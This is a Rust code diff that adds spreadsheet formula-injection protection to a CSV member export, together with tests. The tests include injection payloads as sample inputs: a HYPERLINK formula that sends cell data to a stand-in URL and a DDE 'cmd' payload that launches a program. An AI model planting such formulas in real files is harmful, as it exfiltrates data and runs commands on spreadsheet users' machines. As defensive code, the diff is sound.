@@ -40,15 +40,58 @@ fn cells(m: &Member) -> [String; 13] {
     ]
 }
 
-pub fn csv(members: &[Member]) -> String {
-    let mut writer = csv::Writer::from_writer(Vec::new());
-    // Writing to memory cannot fail.
-    let _ = writer.write_record(COLUMNS);
-    for m in members {
-        let _ = writer.write_record(cells(m));
+/// A cell as a spreadsheet will not run it: text that a spreadsheet would read as a formula
+/// (`=`, `+`, `-`, `@`, or a tab or carriage return first) gets a leading apostrophe, which
+/// spreadsheets take as "this is text" and the import removes again. A signed number (a
+/// phone `+212…`, `-3`) is not a formula that can do harm and is left as it is.
+pub fn neutralize(cell: &str) -> std::borrow::Cow<'_, str> {
+    let mut chars = cell.chars();
+    let risky = match chars.next() {
+        Some('=' | '@' | '\t' | '\r') => true,
+        Some('+' | '-') => !chars.all(|c| c.is_ascii_digit() || c == ' ' || c == '.'),
+        _ => false,
+    };
+    if risky {
+        format!("'{cell}").into()
+    } else {
+        cell.into()
+    }
+}
+
+/// Undoes [`neutralize`] for a cell read back from a file.
+pub fn restore(cell: &str) -> &str {
+    match cell.strip_prefix('\'') {
+        Some(rest) if neutralize(rest).len() != rest.len() => rest,
+        _ => cell,
+    }
+}
+
+/// Writes records as CSV, every cell neutralized: what every CSV the product writes goes
+/// through.
+pub fn csv_records<I, R>(separator: u8, records: I) -> String
+where
+    I: IntoIterator<Item = R>,
+    R: IntoIterator,
+    R::Item: AsRef<str>,
+{
+    let mut writer = csv::WriterBuilder::new()
+        .delimiter(separator)
+        .from_writer(Vec::new());
+    for record in records {
+        // Writing to memory cannot fail.
+        let _ = writer.write_record(
+            record
+                .into_iter()
+                .map(|c| neutralize(c.as_ref()).into_owned()),
+        );
     }
     let body = writer.into_inner().unwrap_or_default();
     format!("\u{FEFF}{}", String::from_utf8_lossy(&body))
+}
+
+pub fn csv(members: &[Member]) -> String {
+    let header = COLUMNS.map(str::to_owned);
+    csv_records(b',', std::iter::once(header).chain(members.iter().map(cells)))
 }
 
 /// One sheet, right to left, with a bold frozen header and text cells (a CIN or a number
@@ -111,6 +154,33 @@ mod tests {
             card_token: String::new(),
             application_id: None,
         }
+    }
+
+    #[test]
+    fn cells_that_a_spreadsheet_would_run_are_neutralized() {
+        let cases = [
+            ("=HYPERLINK(\"http://x\"&A1,\"x\")", "'=HYPERLINK(\"http://x\"&A1,\"x\")"),
+            ("@SUM(A1)", "'@SUM(A1)"),
+            ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
+            ("-2+3", "'-2+3"),
+            ("\tx", "'\tx"),
+            ("\rx", "'\rx"),
+            ("+212612345678", "+212612345678"),
+            ("-3", "-3"),
+            ("محمد", "محمد"),
+            ("a=b", "a=b"),
+            ("", ""),
+        ];
+        for (cell, expected) in cases {
+            assert_eq!(neutralize(cell), expected, "{cell:?}");
+            assert_eq!(restore(expected), cell, "{expected:?}");
+        }
+        assert_eq!(restore("'quoted"), "'quoted");
+        let mut m = member();
+        m.first_name_lat = Some("=1+1".into());
+        let out = csv(&[m]);
+        assert!(out.contains(",'=1+1,"), "{out}");
+        assert!(out.contains(",+212612345678"), "{out}");
     }
 
     #[test]
